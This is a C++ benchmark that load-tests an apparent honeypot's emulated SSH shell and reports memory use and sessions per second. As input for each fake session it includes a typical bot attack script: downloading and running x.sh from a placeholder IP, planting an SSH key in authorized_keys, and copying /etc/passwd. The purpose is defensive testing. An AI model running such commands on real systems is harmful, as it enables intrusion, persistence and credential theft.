// Runs N shell sessions (default 10,000), each typing the usual bot script and writing to the fake
// filesystem, in waves of 100 open at once; prints Pss_Anon (/proc/self/smaps_rollup) before, at
// the peak of a wave and after all sessions closed, and the sessions per second. Usage: [N] [wave].
#include <malloc.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <vector>

#include "decnet/core/procmem.h"
#include "decnet/decoy/testing.h"
#include "decnet/services/shell/shell.h"

namespace {

using decnet::services::shell::Terminal;

struct NullTerminal final : Terminal {
  void Output(std::string_view b) override { bytes += b.size(); }
  void Exit(int) override {}
  uint64_t bytes = 0;
};

uint64_t PssAnon() {
  malloc_trim(0);  // what free() kept in the arena is not a leak; give it back before measuring
  auto m = decnet::ReadProcMem();
  return m ? m->pss_anon_kib : 0;
}

struct Open {
  std::unique_ptr<decnet::decoy::testing::FakeConnection> conn;
  NullTerminal term;
  std::unique_ptr<decnet::services::shell::Shell> shell;
};

}  // namespace

int main(int argc, char** argv) {
  const int n = argc > 1 ? std::atoi(argv[1]) : 10000;
  const int wave = argc > 2 ? std::atoi(argv[2]) : 100;
  decnet::decoy::PersonaInputs in;
  in.distro = "debian";
  in.settings["ssh"]["pause_percent"] = "0";
  decnet::decoy::testing::TestDecky decky(in);
  decky.limits.max_artifact_bytes = 0;  // recordings hashed and counted, not kept on disk
  {
    // One session first: the shared base tree and the command table are built once per process.
    Open o;
    o.conn = std::make_unique<decnet::decoy::testing::FakeConnection>(*decky.decky, 22);
    decnet::services::shell::ShellOptions opt;
    opt.service = "ssh";
    o.shell = decnet::services::shell::NewShell(*o.conn, o.term, opt);
    o.shell->Start();
    o.shell->Close();
  }
  decky.sink->lines.clear();
  const uint64_t before = PssAnon();
  uint64_t peak = 0;
  const auto t0 = std::chrono::steady_clock::now();
  for (int done = 0; done < n; done += wave) {
    std::vector<Open> open(static_cast<size_t>(wave));
    for (Open& o : open) {
      o.conn = std::make_unique<decnet::decoy::testing::FakeConnection>(*decky.decky, 22);
      decnet::services::shell::ShellOptions opt;
      opt.service = "ssh";
      o.shell = decnet::services::shell::NewShell(*o.conn, o.term, opt);
      o.shell->Start();
      o.shell->Feed(
          "uname -a; cat /proc/cpuinfo | grep name | wc -l\rcd /tmp\r"
          "wget http://198.51.100.5/x.sh; chmod +x x.sh; ./x.sh\r"
          "echo 'ssh-rsa AAAAB3 x' >> ~/.ssh/authorized_keys; cat /etc/passwd > /tmp/p; ls -la "
          "/tmp\r");
    }
    if (done == 0) peak = PssAnon();
    for (Open& o : open) o.shell->Close();
    decky.sink->lines.clear();  // the events went to the log sink; this bench measures the shell
    decky.sink->lines.shrink_to_fit();
  }
  const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  const uint64_t after = PssAnon();
  std::printf("sessions %d (waves of %d open at once), %.0f sessions/s\n", n, wave, n / secs);
  std::printf(
      "Pss_Anon KiB: before %llu, %d open %llu (%.1f KiB/session), after all closed %llu (%+lld)\n",
      static_cast<unsigned long long>(before), wave, static_cast<unsigned long long>(peak),
      static_cast<double>(peak - before) / wave, static_cast<unsigned long long>(after),
      static_cast<long long>(after) - static_cast<long long>(before));
  return 0;
}
